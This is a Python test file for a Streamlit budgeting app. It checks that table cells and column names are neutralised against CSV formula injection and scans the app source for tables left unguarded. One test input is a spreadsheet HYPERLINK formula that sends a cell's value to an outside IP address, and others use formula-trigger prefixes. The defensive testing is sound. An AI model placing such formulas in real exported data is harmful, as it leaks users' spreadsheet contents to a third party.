"""Every table the app shows goes through markup.inert_cells: its CSV download holds no formula.

Streamlit's dataframe and data editor offer "Download as CSV" and write each cell as it is; a
partner named `=HYPERLINK(...)` became a formula in Excel (tests/e2e/test_csv_export_browser.py).
"""

from __future__ import annotations

import ast
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from streamlit.testing.v1 import AppTest

from tests.security.test_markdown_calls import SOURCES
from tests.ui.test_app_overview import BUDGET, by_name, editor_key, open_page
from workbench.store.dossiers import Store
from workbench.ui.markup import WORD_JOINER, inert_cell, inert_cells, plain_cell

ROOT = Path(__file__).resolve().parents[2]
TABLES = {"dataframe", "data_editor"}


def _unguarded(source: str, path: str) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(source)):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
            continue
        if node.func.attr not in TABLES:
            continue
        data = node.args[0] if node.args else next((k.value for k in node.keywords if k.arg == "data"), None)
        guarded = (
            isinstance(data, ast.Call) and isinstance(data.func, ast.Name) and data.func.id == "inert_cells"
        )
        if not guarded:
            found.append(f"{path}:{node.lineno}: {ast.unparse(node.func)}(...) without inert_cells")
    return found


def test_every_table_of_the_app_is_inert_for_spreadsheets() -> None:
    found = [f for path in SOURCES for f in _unguarded(path.read_text(), str(path.relative_to(ROOT)))]
    assert not found, "\n".join(found)


@pytest.mark.parametrize(
    "code",
    ["st.dataframe(rows)", "st.data_editor(frame, key='x')", "cols[0].dataframe(data=rows)"],
)
def test_the_scan_finds_a_bare_table(code: str) -> None:
    assert _unguarded(code, "<code>")


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://203.0.113.9/?"&B2;"Klik")', "@SUM(1)", "+1", "-2+3", "\t=1", "\r=1"],
)
def test_a_formula_becomes_text_that_reads_the_same(value: str) -> None:
    cell = inert_cell(value)
    assert cell == WORD_JOINER + value
    assert plain_cell(cell) == value


@pytest.mark.parametrize("value", ["Stad Mortsel", "", "3 = drie", 5, -5, None, 1.5])
def test_other_values_stay_as_they_are(value: object) -> None:
    assert inert_cell(value) == value
    assert plain_cell(value) == value


def test_rows_and_frames_are_inert_in_cells_and_column_names() -> None:
    rows = inert_cells([{"=naam": "=1+1", "bedrag": -5}])
    assert rows == [{WORD_JOINER + "=naam": WORD_JOINER + "=1+1", "bedrag": -5}]
    frame = inert_cells(pd.DataFrame([{"partner": "@x", "=rol": 1.0}]))
    assert list(frame.columns) == ["partner", WORD_JOINER + "=rol"]
    assert frame.iloc[0]["partner"] == WORD_JOINER + "@x"
    assert frame.iloc[0][WORD_JOINER + "=rol"] == 1.0


def test_an_arrow_table_is_inert_in_cells_and_column_names() -> None:
    table = inert_cells(pa.table({"=naam": ["=1+1", "Stad", None], "bedrag": [-5, 1, 2]}))
    assert table.column_names == [WORD_JOINER + "=naam", "bedrag"]
    assert table.column(0).to_pylist() == [WORD_JOINER + "=1+1", "Stad", None]
    assert table.column(1).to_pylist() == [-5, 1, 2]


def test_a_table_with_nothing_to_change_comes_back_as_it_is() -> None:
    frame = pd.DataFrame([{"partner": "Stad", "bedrag": -5.0}])
    table = pa.table({"partner": ["Stad"]})
    assert inert_cells(frame) is frame and inert_cells(table) is table
    changed = pd.DataFrame([{"partner": "@x"}])
    assert inert_cells(changed) is not changed and changed.iloc[0]["partner"] == "@x"  # never in place


def test_the_budget_summary_is_inert_in_the_page(app: AppTest, db_path: Path) -> None:
    dossier = by_name("DIGbij")
    dossier.partners[0].name = "=HYPERLINK(1)"
    open_page(app, db_path, dossier, BUDGET)
    summary = app.dataframe[0].value  # the summary is the first table of the page
    assert WORD_JOINER + "=HYPERLINK(1)" in summary.iloc[:, 0].tolist()


def test_a_milestone_title_that_looks_like_a_formula_is_saved_as_typed(app: AppTest, db_path: Path) -> None:
    """The planning grid shows the title inert and saves what was typed, without the word joiner."""
    dossier = by_name("DIGbij")
    dossier.planning.milestones[0].title = "=Aanvraag indienen"
    dossier_id = open_page(app, db_path, dossier, BUDGET)
    app.session_state[editor_key(app, "budget_planning_editor")] = {
        "edited_rows": {0: {"due": "2023-03-31"}},
        "added_rows": [{"title": "+Eerste rit", "due": "2023-05-01", "owner": "OCMW Tongeren"}],
        "deleted_rows": [],
    }
    app.button(key="budget_planning_save").click().run()
    assert not app.exception
    titles = [m.title for m in Store(db_path).load(dossier_id).dossier.planning.milestones]
    assert titles == ["=Aanvraag indienen", "+Eerste rit"]
